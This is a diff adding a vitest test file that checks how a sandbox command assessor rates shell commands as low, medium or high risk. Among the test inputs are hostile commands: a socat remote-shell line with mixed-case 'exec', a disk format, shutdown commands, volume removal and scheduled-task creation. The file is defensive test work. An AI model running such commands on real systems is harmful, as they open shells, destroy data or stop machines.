@@ -1,0 +1,41 @@
+import { sandboxPolicyForMode } from '@shared/domain/sandbox-policy'
+import { expect, test } from 'vitest'
+import { createShellTreeReader } from '../../../../../../src/main/adapters/shell-parser/shell-tree-reader'
+import { assessCommand } from '../../../../../../src/main/core/assessment/assess-command'
+import { fakeFactsReader } from '../../../../../fakes/fake-facts-reader'
+
+const home = '/home/dev'
+const cwd = `${home}/project`
+const trees = createShellTreeReader()
+
+test.each<[string, string]>([
+  ['docker ps', 'low'],
+  ['/usr/bin/docker ps', 'low'],
+  ['/usr/local/bin/docker ps', 'low'],
+  ['./docker ps', 'medium'],
+  ['tools/docker ps', 'medium'],
+  ['/opt/x/docker ps', 'medium'],
+  ['./docker volume rm x', 'high'],
+  [`cmd /c 'dir /s'`, 'low'],
+  [String.raw`cmd /c 'C:\Windows\System32\whoami.exe'`, 'medium'],
+  [String.raw`cmd /c '.\whoami.exe'`, 'medium'],
+  [String.raw`powershell -Command ".\get-thing.ps1"`, 'medium'],
+  // A cmdlet's -h and -v are no questions: -v is -Verbose.
+  [`powershell -Command 'Stop-Computer -v'`, 'high'],
+  [`cmd /c 'shutdown -h'`, 'high'],
+  [`powershell -Command 'get-content a.txt'`, 'low'],
+  // The same names in a shell that knows others by them.
+  ['tree x', 'low'],
+  ['ver', 'not-assessed'],
+  ['format x', 'not-assessed'],
+  [`cmd /c 'format d:'`, 'high'],
+  ['SCHTASKS //create //tn x', 'not-assessed'],
+  ['schtasks.exe //CREATE //tn x', 'high'],
+  ['socat tcp:h:80 eXeC:sh', 'high'],
+])('%s is %s', async (line, level) => {
+  const assessed = await assessCommand(
+    { argv: ['bash', '-lc', line], cwd, workspace: cwd, policy: sandboxPolicyForMode('workspace-write') },
+    { reader: fakeFactsReader({}), trees, home, now: () => 0 },
+  )
+  expect(assessed.level).toBe(level)
+})
